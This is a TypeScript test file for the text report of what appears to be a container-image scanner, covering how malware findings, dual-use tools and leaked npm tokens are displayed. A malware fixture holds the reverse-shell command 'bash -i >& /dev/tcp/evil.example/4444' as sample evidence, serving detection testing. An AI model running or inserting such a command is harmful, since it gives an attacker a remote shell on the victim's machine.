import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sampleImage, samplePackages } from '../../../test/support/inventory-sample.ts';
import type { Finding } from '../../finding/finding.ts';
import { makeReport } from '../report.ts';
import { writeText } from './text.ts';

function textOf(findings: readonly Finding[]): string {
  const verdict = { decision: 'fail', reasons: [] } as const;
  const inventory = { packages: samplePackages };
  return writeText(
    makeReport(
      { image: sampleImage, inventory, findings, suppressed: [], problems: [], verdict },
      { name: 'x', version: '1' },
    ),
    { color: false, width: 80 },
  );
}

function malware(verdict: 'malicious' | 'suspicious' | 'dual-use', path: string): Finding {
  return {
    id: path,
    kind: 'malware',
    rule: 'malware/reverse-shell',
    severity: 'critical',
    title: `Reverse shell: /${path}`,
    evidence: [{ path, layer: 0, excerpt: 'bash -i >& /dev/tcp/evil.example/4444' }],
    class: verdict,
    story: `/${path} runs: it connects to 192.0.2.1:4444.`,
    fix: `Act on what is ${verdict}.`,
  };
}

test('each accusation is told with its evidence, and what to do once', () => {
  const text = textOf([malware('malicious', 'a'), malware('malicious', 'b'), malware('suspicious', 'c')]);
  assert.match(text, /^ {2}MALICIOUS {2}Reverse shell: \/a$/m);
  assert.match(text, /^ {4}\/a runs: it connects to 192\[\.\]0\[\.\]2\[\.\]1:4444\.$/m);
  assert.match(text, /^ {4}\/a \(layer 0\): bash -i >& \/dev\/tcp\/evil\[\.\]example\/4444$/m);
  assert.deepEqual(text.match(/What to do: .*/g), [
    'What to do: Act on what is malicious.',
    'What to do: Act on what is suspicious.',
  ]);
});

test('tools are named, and nobody is accused for them', () => {
  const text = textOf([malware('dual-use', 'usr/bin/nmap')]);
  assert.match(text, /^Dual-use tools\n {2}\/usr\/bin\/nmap\n {2}.*accuses nobody\.$/m);
  assert.doesNotMatch(text, /What to do/);
});

test('a secret is told with its kind and place, each once', () => {
  const secret: Finding = {
    id: 's',
    kind: 'secret',
    rule: 'secret/npm-token',
    severity: 'high',
    title: 'Secret in /root/x: y/.npmrc in layer 1, which a later layer hides but does not remove: npm token',
    evidence: [{ path: 'root/x: y/.npmrc', layer: 1, line: 3, excerpt: 'npm_…abcd' }],
    hidden: true,
  };
  assert.match(
    textOf([secret]),
    /^1 secret\n {2}\/root\/x: y\/\.npmrc:3 \(layer 1\) {2}npm token: npm_…abcd \(hidden by a later layer\)$/m,
  );
});
